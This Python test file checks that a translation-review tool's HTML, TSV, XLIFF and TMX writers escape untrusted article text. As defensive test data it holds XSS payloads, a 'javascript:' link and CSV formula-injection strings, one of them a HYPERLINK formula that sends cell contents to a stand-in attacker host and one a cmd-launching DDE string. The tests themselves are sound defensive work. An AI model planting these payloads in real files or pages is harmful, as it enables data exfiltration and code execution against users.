"""Review writers (html, tsv, xliff, tmx) on real Urdu, Pashto and Dari text with injection
strings in the article; XLIFF/TMX parsed back with translate-toolkit; the HTML page loaded in
headless Chromium when one is installed."""

from __future__ import annotations

import re

import pytest
from lxml import etree
from lxml import html as lxml_html

from summarize.writers.html import HtmlWriter, IndexEntry, render_index, review_script
from summarize.writers.tmx import BACK_PROP_TYPE, TmxWriter
from summarize.writers.tsv import TsvWriter, escape_field, parse_tsv, unescape_field
from summarize.writers.xliff import BACK_NOTE_ORIGIN, QA_NOTE_ORIGIN, XLIFF_NS, XliffWriter, units_of

try:
    from review_helpers import GOOD, XSS, XSS_IMG, XSS_SCRIPT, Chromium, find_chromium, make_review_brief
except ImportError:  # tests/ is a package
    from tests.review_helpers import GOOD, XSS, XSS_IMG, XSS_SCRIPT, Chromium, find_chromium, make_review_brief

TAGS = {"ur": "ur", "ps": "ps", "prs": "fa-AF"}


@pytest.fixture
def brief():
    return make_review_brief()


def test_formats_are_registered():
    from summarize.writers import writers_for

    try:
        writers = writers_for("html,tsv,xliff,tmx")
    except ModuleNotFoundError as exc:  # another engineer's writer module not there yet
        pytest.skip(f"writer registry incomplete: {exc}")
    assert [w.format for w in writers] == ["html", "tsv", "xliff", "tmx"]
    assert [type(w) for w in writers] == [HtmlWriter, TsvWriter, XliffWriter, TmxWriter]


def test_flags_are_there_to_show(brief):
    # The fixture has what the writers must display: flags, back-translations, a title.
    assert brief.flag_count() >= 3
    assert [f.code for f in brief.segments[1].targets["ps"].flags] == ["language"]
    assert [f.code for f in brief.segments[2].targets["prs"].flags] == ["numbers"]


# --- HTML ---------------------------------------------------------------------------------------


def _page(brief) -> str:
    files = HtmlWriter().render(brief)
    assert list(files) == ["brief.html"]
    return files["brief.html"].decode("utf-8")


def test_html_escapes_everything_from_the_article_and_the_models(brief):
    page = _page(brief)
    assert page.startswith("<!doctype html>")
    # The page's own script is its one <script> element, the last thing in <body>.
    own = f"<script>{review_script()}</script>"
    assert page.count(own) == 1 and page.lower().count("<script") == 1
    page = page.replace(own, "")
    assert XSS_SCRIPT not in page and "<script" not in page.lower()
    assert XSS_IMG not in page and "<img" not in page.lower()
    assert "onerror=alert(1)>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&#34;double&#34;" in page and "&#39;single&#39;" in page and "&amp; ampersand" in page
    # The parsed document holds the strings as text, intact.
    doc = lxml_html.fromstring(page)
    assert doc.xpath("//script") == [] and doc.xpath("//img") == []
    assert doc.xpath("//@*[starts-with(name(), 'on')]") == []  # no inline handler
    assert doc.findtext(".//h1") == f"Floods close schools {XSS}"
    assert XSS in doc.text_content()


def test_html_is_self_contained(brief):
    page = _page(brief).replace(f"<script>{review_script()}</script>", "")
    low = page.lower()
    for needle in ("http:", "https:", "url(", "@import", "@font-face", "<link", "<script", "<iframe", "<object"):
        assert needle not in low, needle
    doc = lxml_html.fromstring(page)
    assert doc.xpath("//@src | //@srcset | //@data | //@poster | //@action | //link | //base") == []
    assert all(h.startswith("#") for h in doc.xpath("//@href"))
    csp = doc.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert csp and "default-src 'none'" in csp[0]


def test_html_layout(brief):
    doc = lxml_html.fromstring(_page(brief))
    rows = doc.xpath("//table[contains(@class,'brief')]/tbody/tr")
    assert len(rows) == 1 + len(brief.segments)
    assert rows[0].get("id") == "seg-title" and "title-row" in rows[0].get("class")
    headers = [th.text_content().strip() for th in doc.xpath("//table[contains(@class,'brief')]/thead//th")]
    assert headers[1].startswith("English") and headers[2].startswith("Urdu") and headers[4].startswith("Dari")
    for tr, seg in zip(rows, [brief.title, *brief.segments]):
        cells = tr.xpath("./td")
        assert cells[1].text_content().strip() == seg.source
        for cell, t in zip(cells[2:], brief.targets):
            ts = seg.targets[t.short]
            assert cell.get("lang") == t.tag == TAGS[t.short]
            assert cell.get("dir") == "rtl"
            assert cell.xpath("./div[@class='text']")[0].text_content() == ts.text
            bt = cell.xpath("./div[@class='bt']")
            if ts.back_translation is None:
                assert bt == []
            else:
                assert bt[0].get("lang") == "en" and bt[0].get("dir") == "ltr"
                assert "Machine back-translation" in bt[0].text_content()
                assert bt[0].xpath("./span[@class='btext']")[0].text_content() == ts.back_translation
            if ts.flags:
                assert "flagged" in cell.get("class")
                tip = cell.get("title")
                items = [li.text_content() for li in cell.xpath("./ul[@class='flags']/li")]
                assert len(items) == len(ts.flags)
                for f, item in zip(ts.flags, items):
                    assert f.message in tip and f.code in tip  # on hover
                    assert item == f.code + f.message  # and as visible text
            else:
                assert "flagged" not in cell.get("class") and cell.get("title") is None
    # Rows are labelled with the unit ids of brief.tsv, brief.md, the XLIFF and the TMX (title,
    # then brief.json's 0-based index); so are the "Review first" links.
    labels = [tr.xpath("./td[@class='num']/a")[0] for tr in rows]
    assert [a.text_content() for a in labels] == ["title"] + [str(s.index) for s in brief.segments]
    assert [a.get("href") for a in labels[1:]] == [f"#seg-{s.index}" for s in brief.segments]
    assert doc.xpath("//table[contains(@class,'brief')]/thead//th")[0].text_content() == "id"
    review = {a.text_content(): a.getparent().text_content() for a in doc.xpath("//section[contains(@class,'review-first')]//a")}
    assert "Pashto language" in review["1"] and "0" not in review  # brief.segments[1]
    # Real Urdu/Pashto/Dari text as UTF-8 characters, not escapes.
    page = _page(brief)
    for seg in brief.segments:
        for ts in seg.targets.values():
            if "<" not in ts.text:
                assert ts.text in page
    assert GOOD[1][3] in page and GOOD[3][2] in page
    assert "\\u06" not in page and "&#16" not in page and "&#x6" not in page.lower()


def test_html_row_labels_are_the_tsv_ids(brief):
    # A reviewer who writes "segment 3 is wrong" means one sentence, whichever file they read:
    # the page's label of each row is the id brief.tsv gives the same sentence.
    tsv = parse_tsv(TsvWriter().render(brief)["brief.tsv"])
    tsv_id = {row[1]: row[0] for row in tsv[1:]}  # source sentence -> id
    assert list(tsv_id.values()) == ["title"] + [str(s.index) for s in brief.segments]
    doc = lxml_html.fromstring(_page(brief))
    rows = doc.xpath("//table[contains(@class,'brief')]/tbody/tr")
    html_id = {tr.xpath("./td[@class='src']")[0].text_content(): tr.xpath("./td[@class='num']/a")[0].text_content()
               for tr in rows}
    assert html_id == tsv_id
    # The side panel's marks name the same id as the row they belong to.
    for mark in doc.xpath("//article[@class='source-text']//mark"):
        assert mark.get("title") == f"segment {tsv_id[mark.text_content()]}"
    # And the ids are the XLIFF's unit ids.
    xlf = XliffWriter().render(brief)["brief.ur.xlf"]
    ids = [u.get("id") for u in etree.fromstring(xlf).iter(f"{{{XLIFF_NS}}}trans-unit")]
    assert ids == list(tsv_id.values())


def test_html_header_fonts_notes_and_removed_lines(brief):
    page = _page(brief)
    doc = lxml_html.fromstring(page)
    style = doc.findtext(".//style")
    ur_rule = re.search(r":lang\(ur\)\s*\{\s*font-family:\s*([^;]+);", style).group(1)
    assert ur_rule.startswith('"Noto Nastaliq Urdu"') and ur_rule.rstrip().endswith("serif")
    naskh_rule = re.search(r":lang\(ps\), :lang\(fa\)[^{]*\{\s*font-family:\s*([^;]+);", style).group(1)
    assert naskh_rule.startswith('"Noto Naskh Arabic"')
    text = doc.text_content()
    assert "facebook/bart-large-cnn" in text and "abc123" in text and "no_repeat_ngram_size" in text
    assert "translators · prs" in text
    # Review-first list: one link per segment with a flagged cell, naming each flagged target.
    items = doc.xpath("//section[contains(@class,'review-first')]//li")
    flagged = [(a, s) for a, s in [("seg-title", brief.title), *((f"seg-{s.index}", s) for s in brief.segments)]
               if any(t.flags for t in s.targets.values())]
    assert [li.xpath("./a/@href")[0] for li in items] == [f"#{a}" for a, _ in flagged]
    for li, (_, seg) in zip(items, flagged):
        for t in brief.targets:
            codes = {f.code for f in seg.targets[t.short].flags}
            assert (t.name in li.text_content()) == bool(codes)
            for code in codes:
                assert code in li.text_content()
    # Notes and removed lines come after the brief table.
    assert page.index("<h2>Notes</h2>") > page.index('class="grid brief"')
    assert f"note with {XSS}" in text
    assert page.index("Removed from the article") > page.index("<h2>Notes</h2>")
    assert f"Subscribe now {XSS_IMG}" in text and "Share on X & Facebook" in text


def test_html_without_title_back_translations_or_models():
    brief = make_review_brief(back=False)
    brief.title = None
    brief.models = {}
    brief.notes = []
    brief.article.removed = []
    doc = lxml_html.fromstring(_page(brief))
    rows = doc.xpath("//table[contains(@class,'brief')]/tbody/tr")
    assert len(rows) == len(brief.segments) and rows[0].get("id") == "seg-0"
    assert doc.xpath("//div[@class='bt']") == []
    assert "Removed from the article" not in doc.text_content()


def test_html_without_targets_says_not_translated():
    brief = make_review_brief(back=False, checked=False)  # what --no-translate makes
    brief.targets = []
    for seg in [brief.title, *brief.segments]:
        seg.targets = {}
    doc = lxml_html.fromstring(_page(brief))
    meta = doc.xpath("//header/p[@class='meta']")[0].text_content()
    assert "not translated" in meta and "targets:" not in meta
    assert doc.xpath("//div[@class='chips']") == [] and "QA flag" not in doc.text_content()
    assert "back-translation" not in doc.text_content()
    assert len(doc.xpath("//table[contains(@class,'brief')]/thead//th")) == 2


def test_html_missing_target_is_shown_not_fatal(brief):
    del brief.segments[0].targets["ps"]
    doc = lxml_html.fromstring(_page(brief))
    assert "missing: no Pashto translation" in doc.text_content()


def test_html_write_creates_the_file(brief, tmp_path):
    (path,) = HtmlWriter().write(brief, tmp_path / "floods")
    assert path == tmp_path / "floods" / "brief.html"
    assert path.read_bytes() == HtmlWriter().render(brief)["brief.html"]


def test_index_page_escapes_and_links(tmp_path):
    page = render_index(
        [
            IndexEntry("afghan truce", "afghan truce/brief.html", "ok", None, 3),
            {"stem": f"bad {XSS}", "href": "javascript:alert(1)", "status": "failed", "reason": f"decode error {XSS}", "flags": 0},
            IndexEntry("skipped-one", None, "skipped", "empty file", 0),
        ]
    ).decode("utf-8")
    assert XSS_SCRIPT not in page and "<img" not in page.lower()
    doc = lxml_html.fromstring(page)
    hrefs = doc.xpath("//a/@href")
    assert hrefs == ["afghan%20truce/brief.html", "javascript%3Aalert%281%29"]
    rows = doc.xpath("//tbody/tr")
    assert [r.xpath("./td")[0].text_content() for r in rows] == ["afghan truce", f"bad {XSS}", "skipped-one"]
    assert [r.xpath("./td")[1].text_content() for r in rows] == ["ok", "failed", "skipped"]
    assert f"decode error {XSS}" in doc.text_content()
    assert "⚠ 3" in rows[0].xpath("./td")[2].text_content()
    assert "http:" not in page and "https:" not in page and "<script" not in page


# --- TSV ----------------------------------------------------------------------------------------


def test_tsv_escaping_round_trips():
    for text in ["plain", "tab\there", "new\nline\r\n", "back\\slash \\t literal", "", "\\", "ے\tں"]:
        esc = escape_field(text)
        assert "\t" not in esc and "\n" not in esc and "\r" not in esc
        assert unescape_field(esc) == text
    with pytest.raises(ValueError):
        unescape_field("bad \\x escape")


def test_tsv(brief):
    brief.segments[3].targets["ps"].text = "tab\there and a\nnewline and a \\ backslash"
    data = TsvWriter().render(brief)["brief.tsv"]
    text = data.decode("utf-8")
    lines = text.split("\n")
    assert lines[-1] == "" and len(lines) == len(brief.segments) + 3  # header, title, rows, final newline
    assert len({line.count("\t") for line in lines[:-1]}) == 1
    rows = parse_tsv(data)
    assert rows[0] == ["id", "en", "ur", "ur.back", "ps", "prs", "ur.flags", "ps.flags", "prs.flags"]
    title = brief.title
    assert rows[1][:6] == ["title", title.source, title.targets["ur"].text, title.targets["ur"].back_translation,
                           title.targets["ps"].text, title.targets["prs"].text]
    for row, seg in zip(rows[2:], brief.segments, strict=True):
        assert row[0] == str(seg.index) and row[1] == seg.source
        assert row[2] == seg.targets["ur"].text and row[3] == seg.targets["ur"].back_translation
        assert row[4] == seg.targets["ps"].text and row[5] == seg.targets["prs"].text
        for col, short in zip(row[6:], ("ur", "ps", "prs")):
            assert col == "; ".join(f"{f.code}: {f.message}" for f in seg.targets[short].flags)
    assert rows[2][3] == "The government said\ton Tuesday\nschools will reopen."
    assert "\\t" in lines[2] and "\\n" in lines[2]
    assert rows[5][4] == "tab\there and a\nnewline and a \\ backslash"
    assert rows[3][7].startswith("language: ")
    assert GOOD[1][3] in text and "\\u06" not in text  # UTF-8 text, not escapes
    assert not data.startswith(b"\xef\xbb\xbf")


def test_tsv_has_a_title_row_like_every_other_format(brief):
    rows = parse_tsv(TsvWriter().render(brief)["brief.tsv"])
    assert rows[1][:2] == ["title", brief.title.source]
    assert [r[0] for r in rows[1:]] == [unit_id for unit_id, _ in units_of(brief)]  # the XLIFF/TMX ids
    brief.title = None
    rows = parse_tsv(TsvWriter().render(brief)["brief.tsv"])
    assert [r[0] for r in rows[1:]] == [str(s.index) for s in brief.segments]


def test_tsv_cells_never_start_a_spreadsheet_formula(brief):
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\uff1d1+1"]
    for text in attacks:
        assert escape_field(text) == "\\" + text and unescape_field(escape_field(text)) == text
    assert escape_field("a = b - c") == "a = b - c"  # only a first character counts
    brief.title = None
    brief.segments[0].source = attacks[0]
    brief.segments[1].targets["ur"].text = attacks[1]
    brief.segments[2].targets["ps"].text = "\t" + attacks[2]  # a tab (escaped to backslash-t), then a formula
    data = TsvWriter().render(brief)["brief.tsv"]
    cells = [cell for line in data.decode("utf-8").splitlines() for cell in line.split("\t")]
    assert cells and not [c for c in cells if c and c[0] in "=+-@\uff1d"]
    rows = parse_tsv(data)
    assert rows[1][1] == attacks[0] and rows[2][2] == attacks[1] and rows[3][4] == "\t" + attacks[2]


def test_tsv_without_back_translations():
    rows = parse_tsv(TsvWriter().render(make_review_brief(back=False))["brief.tsv"])
    assert rows[0] == ["id", "en", "ur", "ps", "prs", "ur.flags", "ps.flags", "prs.flags"]


# --- XLIFF --------------------------------------------------------------------------------------


def _expected_notes(ts):
    qa = [f"QA {f.code}: {f.message}" for f in ts.flags]
    back = [] if ts.back_translation is None else [f"Machine back-translation: {ts.back_translation}"]
    return qa, back


def test_xliff_round_trip(brief):
    from translate.storage import xliff

    files = XliffWriter().render(brief)
    assert list(files) == ["brief.ur.xlf", "brief.ps.xlf", "brief.prs.xlf"]
    units_expected = [("title", brief.title)] + [(str(s.index), s) for s in brief.segments]
    for t in brief.targets:
        data = files[f"brief.{t.short}.xlf"]
        root = etree.fromstring(data)
        assert root.get("version") == "1.2" and root.tag == f"{{{XLIFF_NS}}}xliff"
        assert "urn:oasis:names:tc:xliff:document:1.1" not in data.decode("utf-8")
        filenode = root.find(f"{{{XLIFF_NS}}}file")
        assert filenode.get("source-language") == "en" and filenode.get("target-language") == TAGS[t.short]
        assert filenode.get("original") == brief.article.stem

        store = xliff.xlifffile.parsestring(data)
        assert store.getsourcelanguage() == "en" and store.gettargetlanguage() == TAGS[t.short]
        assert len(store.units) == len(units_expected)
        for unit, (uid, seg) in zip(store.units, units_expected):
            ts = seg.targets[t.short]
            assert unit.xmlelement.get("id") == uid
            assert unit.getid() == f"{brief.article.stem}\x04{uid}"
            assert unit.source == seg.source
            assert unit.target == ts.text
            qa, back = _expected_notes(ts)
            assert unit._getnotelist(origin=QA_NOTE_ORIGIN) == qa
            assert unit._getnotelist(origin=BACK_NOTE_ORIGIN) == back
            assert not unit.isapproved()
            target_node = unit.getlanguageNode(lang=None, index=1)
            # Machine output, flagged or not, is never plain "translated" (memoQ/Globalese convention).
            assert target_node.get("state-qualifier") == "leveraged-mt"
            assert target_node.get("state") == "needs-review-translation"
    # The tab and newline of the back-translation, and the injection strings, survive as text.
    ur = xliff.xlifffile.parsestring(files["brief.ur.xlf"])
    assert ur.units[1]._getnotelist(origin=BACK_NOTE_ORIGIN) == ["Machine back-translation: The government said\ton Tuesday\nschools will reopen."]
    assert ur.units[0].source == f"Floods close schools {XSS}"
    assert XSS_SCRIPT not in files["brief.ur.xlf"].decode("utf-8")


def test_xliff_empty_target_and_odd_characters(brief):
    from translate.storage import xliff

    brief.segments[0].targets["ur"].text = ""
    brief.segments[1].source = "form\x0cfeed and bell\x07"
    store = xliff.xlifffile.parsestring(XliffWriter().render(brief)["brief.ur.xlf"])
    unit = store.units[1]
    assert unit.target == "" and unit.getlanguageNode(lang=None, index=1).get("state") == "needs-translation"
    assert store.units[2].source == "formfeed and bell"


# --- TMX ----------------------------------------------------------------------------------------


def test_tmx_round_trip(brief):
    from translate.storage import tmx

    files = TmxWriter().render(brief)
    assert list(files) == ["brief.ur.tmx", "brief.ps.tmx", "brief.prs.tmx"]
    units_expected = [("title", brief.title)] + [(str(s.index), s) for s in brief.segments]
    for t in brief.targets:
        data = files[f"brief.{t.short}.tmx"]
        root = etree.fromstring(data)
        assert root.get("version") == "1.4"
        header = root.find("header")
        assert header.get("srclang") == "en" and header.get("creationtool") == "summarize"
        store = tmx.tmxfile.parsestring(data)
        assert len(store.units) == len(units_expected)
        for unit, (uid, seg) in zip(store.units, units_expected):
            ts = seg.targets[t.short]
            assert unit.getid() == uid
            langs = [n.get("{http://www.w3.org/XML/1998/namespace}lang") for n in unit.getlanguageNodes()]
            assert langs == ["en", TAGS[t.short]]
            assert unit.source == seg.source
            assert unit.gettarget(TAGS[t.short]) == ts.text
            qa, back = _expected_notes(ts)
            assert unit._getnotelist() == qa
            props = [p.text for p in unit.xmlelement.findall("prop") if p.get("type") == BACK_PROP_TYPE]
            assert props == ([] if ts.back_translation is None else [ts.back_translation])
    assert GOOD[3][2] in files["brief.ps.tmx"].decode("utf-8")  # UTF-8, not character references


# --- in a real browser ----------------------------------------------------------------------------


def test_html_in_headless_chromium(brief, tmp_path):
    exe = find_chromium()
    if exe is None:
        pytest.skip("chromium not installed: apt-get install chromium")
    (page,) = HtmlWriter().write(brief, tmp_path / "out")
    index = tmp_path / "out" / "index.html"
    index.write_bytes(render_index([IndexEntry("floods", "brief.html", "ok", None, brief.flag_count())]))
    with Chromium(exe, tmp_path / "profile") as browser:
        log = browser.open(page.as_uri())
        assert log.requests == [page.as_uri()], "the page requested something besides itself"
        assert log.errors == []
        assert log.dialogs == [], "an injected script ran"
        cells = browser.evaluate(
            "[...document.querySelectorAll('td.tgt')].map(c => [c.lang, c.dir, getComputedStyle(c).direction])"
        )
        assert len(cells) == 3 * (1 + len(brief.segments))
        assert {tuple(c) for c in cells} == {("ur", "rtl", "rtl"), ("ps", "rtl", "rtl"), ("fa-AF", "rtl", "rtl")}
        first_ur = browser.evaluate("getComputedStyle(document.querySelector('td[lang=ur]')).direction")
        assert first_ur == "rtl"
        assert browser.evaluate("document.querySelectorAll('img, iframe').length") == 0
        assert browser.evaluate("[...document.scripts].map(s => s.textContent)") == [review_script()]
        # The script ran (the CSP hash let it): the toolbar is shown.
        assert browser.evaluate("document.querySelector('.toolbar').hidden") is False
        # A flagged right-to-left cell shows its bar on the right, where the line starts.
        bar = browser.evaluate("getComputedStyle(document.querySelector('td.flagged[dir=rtl]')).borderRightWidth")
        assert float(bar.removesuffix("px")) >= 4
        assert browser.evaluate("document.querySelector('h1').textContent") == f"Floods close schools {XSS}"
        shot = browser.screenshot(tmp_path / "brief.png")
        assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 10_000

        log = browser.open(index.as_uri())
        assert log.requests == [index.as_uri()] and log.errors == [] and log.dialogs == []
        browser.screenshot(tmp_path / "index.png")


def test_html_clean_brief_says_so():
    brief = make_review_brief(checked=False)
    for seg in [brief.title, *brief.segments]:
        for ts in seg.targets.values():
            ts.flags = []
    doc = lxml_html.fromstring(_page(brief))
    assert "✓ no QA flags" in doc.text_content()
    assert doc.xpath("//section[contains(@class,'review-first')]") == []
    assert doc.xpath("//td[contains(@class,'flagged')]") == []


def test_rtl_text_in_flag_messages_is_isolated():
    from summarize.writers.html import isolate_rtl

    out = isolate_rtl("letters (Urdu: ے ں) & “کھلیں گے” <b>")
    assert str(out) == "letters (Urdu: <bdi>ے ں</bdi>) &amp; “<bdi>کھلیں گے</bdi>” &lt;b&gt;"
    brief = make_review_brief()
    doc = lxml_html.fromstring(_page(brief))
    cell = doc.xpath("//tr[@id='seg-1']/td[@lang='ps']")[0]
    assert cell.xpath(".//ul[@class='flags']//bdi")


# --- one document on stdout ---------------------------------------------------------------------


def test_xliff_on_stdout_is_one_document_with_a_file_per_target(brief):
    from translate.storage import xliff

    data = XliffWriter().to_stdout(brief)
    root = etree.fromstring(data)  # one well-formed document, no "==>" separators
    files = root.findall(f"{{{XLIFF_NS}}}file")
    assert [f.get("target-language") for f in files] == [TAGS[t.short] for t in brief.targets]
    separate = XliffWriter().render(brief)
    for filenode, t in zip(files, brief.targets):
        alone = etree.fromstring(separate[f"brief.{t.short}.xlf"]).find(f"{{{XLIFF_NS}}}file")
        assert filenode.get("original") == f"{brief.article.stem}.{t.short}"  # each file its own, or readers merge them
        alone.set("original", filenode.get("original"))
        assert etree.tostring(filenode) == etree.tostring(alone)
    assert len(xliff.xlifffile.parsestring(data).units) == 3 * (1 + len(brief.segments))


def test_tmx_on_stdout_takes_one_target(tiny_config, tmp_path):
    from click.testing import CliRunner

    from summarize.cli import main
    from tests.conftest import SEED

    base = ["run", str(SEED), "--models", str(tiny_config), "--offline", "-f", "tmx", "-o", "-"]
    result = CliRunner().invoke(main, base)
    assert result.exit_code == 2 and "--targets ur" in result.stderr and "<tmx" not in result.stdout
    result = CliRunner().invoke(main, [*base, "--targets", "ps"])
    assert result.exit_code == 0, result.output
    tuvs = etree.fromstring(result.stdout_bytes).xpath("//tuv/@xml:lang", namespaces={"xml": "http://www.w3.org/XML/1998/namespace"})
    assert set(tuvs) == {"en", "ps"}


# --- the page's one script --------------------------------------------------------------------


def test_csp_pins_the_inline_script_by_its_hash(brief):
    import base64
    import hashlib

    doc = lxml_html.fromstring(_page(brief).encode("utf-8"))
    (script,) = doc.xpath("//script")
    text = script.text
    assert text == review_script() and script.attrib == {}  # inline, no src, no nonce
    csp = doc.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")[0]
    policy = dict((d.split()[0], d.split()[1:]) for d in csp.split(";") if d.strip())
    digest = base64.b64encode(hashlib.sha256(text.encode("utf-8")).digest()).decode()
    assert policy["script-src"] == [f"'sha256-{digest}'"]
    assert policy["default-src"] == ["'none'"] and policy["require-trusted-types-for"] == ["'script'"]
    assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in csp
    # The script builds nothing from markup and evaluates nothing.
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "Function(", "setTimeout(\"", "javascript:"):
        assert sink not in text, sink


def test_page_without_targets_has_no_script():
    brief = make_review_brief(back=False, checked=False)
    brief.targets = []
    for seg in [brief.title, *brief.segments]:
        seg.targets = {}
    doc = lxml_html.fromstring(_page(brief))
    assert doc.xpath("//script") == []
    assert "script-src 'none'" in doc.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")[0]


def test_brief_identity_names_the_article_and_the_machine_text(brief):
    import copy
    import json

    from summarize.brief import brief_identity

    data = json.loads(json.dumps(brief.to_dict()))
    ident = brief_identity(brief)
    assert {k: data[k] for k in ("id", "content_hash")} == ident == brief_identity(data)
    assert len(ident["id"]) == 16 and len(ident["content_hash"]) == 64
    doc = lxml_html.fromstring(_page(brief))
    main = doc.xpath("//main[@id='review']")[0]
    assert main.get("data-brief-id") == ident["id"] and main.get("data-content-hash") == ident["content_hash"]
    # An imported review changes text but keeps mt: same identity.
    reviewed = copy.deepcopy(data)
    ts = reviewed["segments"][0]["targets"]["ur"]
    ts["mt"], ts["text"], ts["origin"] = ts["text"], "reviewed", "review"
    ts["review"] = {"status": "edited", "comment": "", "by": None, "at": "2026-12-01T10:00:00Z"}
    assert brief_identity(reviewed) == ident
    # New machine text: same article, another brief.
    changed = copy.deepcopy(data)
    changed["segments"][0]["targets"]["ur"].update(text="other MT", mt="other MT")
    assert brief_identity(changed)["id"] == ident["id"] and brief_identity(changed)["content_hash"] != ident["content_hash"]
    changed = copy.deepcopy(data)
    changed["title"]["targets"]["ps"].update(text="other MT", mt="other MT")
    assert brief_identity(changed)["content_hash"] != ident["content_hash"]
    # Another article: another id.
    other = copy.deepcopy(data)
    other["source"]["text"] += " One more sentence."
    assert brief_identity(other)["id"] != ident["id"]


def test_a_cell_text_shows_in_its_own_direction(tmp_path):
    """English left in an Urdu cell is laid out left to right (its full stop at its end, not
    "...near .Khwazakhela"); an Urdu text opening with a Latin name stays right to left."""
    from summarize.brief import TargetSegment
    from summarize.writers.escape import text_dir
    from tests.review_helpers import make_review_brief

    assert text_dir("Schools reopened near Khwazakhela.", True) == "ltr"
    assert text_dir("UN کے سیکرٹری جنرل نے کابل کا دورہ کیا۔", True) == "rtl"
    assert text_dir("۴٫۵ 2026", True) == "rtl"  # no letters either way: the cell's
    assert text_dir("Schools reopened.", False) == "ltr"
    assert text_dir("یہ ترجمہ ہے۔", False) == "rtl"
    brief = make_review_brief(checked=False)
    brief.segments[0].targets["ur"] = TargetSegment("Schools reopened near Khwazakhela.")
    brief.segments[1].targets["ur"] = TargetSegment("UN کے سیکرٹری جنرل نے کابل کا دورہ کیا۔")
    (path,) = HtmlWriter().write(brief, tmp_path / "dir")
    doc = lxml_html.fromstring(path.read_text(encoding="utf-8"))

    def text_of(seg, target):
        (td,) = doc.xpath(f'//td[@data-seg="{seg}"][@data-target="{target}"]')
        (div,) = td.xpath('./div[@class="text"]')
        return td, div

    td, div = text_of(0, "ur")
    assert td.get("dir") == "rtl" and div.get("dir") == "ltr" and div.text == "Schools reopened near Khwazakhela."
    assert text_of(1, "ur")[1].get("dir") == "rtl"
    assert text_of(0, "ps")[1].get("dir") == "rtl"
